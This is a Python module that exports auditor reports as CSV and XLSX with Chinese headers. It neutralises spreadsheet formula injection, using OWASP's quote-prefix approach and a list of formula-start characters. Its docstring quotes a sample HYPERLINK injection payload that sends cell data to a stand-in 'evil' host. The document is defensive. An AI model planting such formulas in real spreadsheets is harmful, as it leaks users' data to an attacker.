"""Report exports for auditors: CSV (UTF-8 with BOM, so Excel and WPS open it as Chinese) and
XLSX (openpyxl), with Chinese column headers. Money cells are exact: text in CSV, numbers with
two decimals in XLSX.

Every spreadsheet the project writes goes through `cell` (tests/test_exports_neutralised.py
checks that nothing else writes one), so no text can become a formula: a unit named
`=HYPERLINK("http://evil/?"&A1,"click")` is written as text. In CSV, which has no types, it
is prefixed with a quote as OWASP's CSV-injection guidance says. In XLSX it is a string cell
(never evaluated) carrying the quote prefix style, as Excel stores a cell typed with a
leading `'`: it shows exactly the name, and stays text when edited. Only values the code
computes (Decimal, int, float, dates) are written as numbers; text that looks like one ("-1"
typed into a name) is text, quoted the same way."""

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from typing import Any, Literal

from fastapi.responses import Response
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

ExportFormat = Literal["json", "csv", "xlsx"]
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# What makes a spreadsheet read a cell as a formula (OWASP): one of these at the start, or
# after a separator within the cell (pasted elsewhere, the cell may be split there).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_AFTER_SEPARATOR = re.compile(r"[,;\t\r\n][=+\-@]")


@dataclass
class Sheet:
    title: str
    headers: Sequence[str]
    rows: Sequence[Sequence[Any]]


def reads_as_formula(text: str) -> bool:
    """Whether a spreadsheet would evaluate the text, typed or pasted into a cell."""
    return text.startswith(_FORMULA_START) or bool(_FORMULA_AFTER_SEPARATOR.search(text))


def neutralise(text: str) -> str:
    """For CSV: text that a spreadsheet would evaluate, prefixed with `'`."""
    return "'" + text if reads_as_formula(text) else text


def cell(value: Any, fmt: Literal["csv", "xlsx"]) -> Any:
    """A value as a spreadsheet cell: numbers and dates the code computed stay what they are
    (Decimal as exact text in CSV); everything else is text, neutralised in CSV, as it is in
    XLSX (where append_row makes it a quoted string cell)."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return format(value, "f") if fmt == "csv" else value
    if isinstance(value, int | float | date) and not isinstance(value, bool):
        return value
    if fmt == "csv":
        return neutralise(str(value))
    # A worksheet cannot hold most control characters (openpyxl refuses the whole file): a
    # name stored before names refused them is shown with U+FFFD where one was.
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(value))


def csv_bytes(headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([cell(value, "csv") for value in headers])
    for row in rows:
        writer.writerow([cell(value, "csv") for value in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")  # BOM: Excel and WPS read UTF-8


def csv_response(sheet: Sheet, filename: str) -> Response:
    return Response(
        csv_bytes(sheet.headers, sheet.rows),
        media_type="text/csv; charset=utf-8",
        headers={"Content-Disposition": f'attachment; filename="{filename}.csv"'},
    )


def append_row(worksheet: Worksheet, row: Sequence[Any]) -> None:
    """One row of cells. Text is a string cell (openpyxl would store "=..." as a formula),
    with the quote prefix when a spreadsheet would read it as one."""
    worksheet.append([cell(value, "xlsx") for value in row])
    for written in worksheet[worksheet.max_row]:
        if isinstance(written.value, str):
            written.data_type = "s"
            if reads_as_formula(written.value):
                written.quotePrefix = True
        elif isinstance(written.value, Decimal):
            written.number_format = "0.00"


def workbook(sheets: Sequence[Sheet]) -> Workbook:
    book = Workbook()
    book.remove(book.active)
    for sheet in sheets:
        worksheet = book.create_sheet(sheet.title)
        append_row(worksheet, sheet.headers)
        for row in sheet.rows:
            append_row(worksheet, row)
    return book


def xlsx_bytes_response(book: Workbook, filename: str) -> Response:
    buffer = io.BytesIO()
    book.save(buffer)
    return Response(
        buffer.getvalue(),
        media_type=XLSX_TYPE,
        headers={"Content-Disposition": f'attachment; filename="{filename}.xlsx"'},
    )


def xlsx_response(sheets: Sequence[Sheet], filename: str) -> Response:
    return xlsx_bytes_response(workbook(sheets), filename)
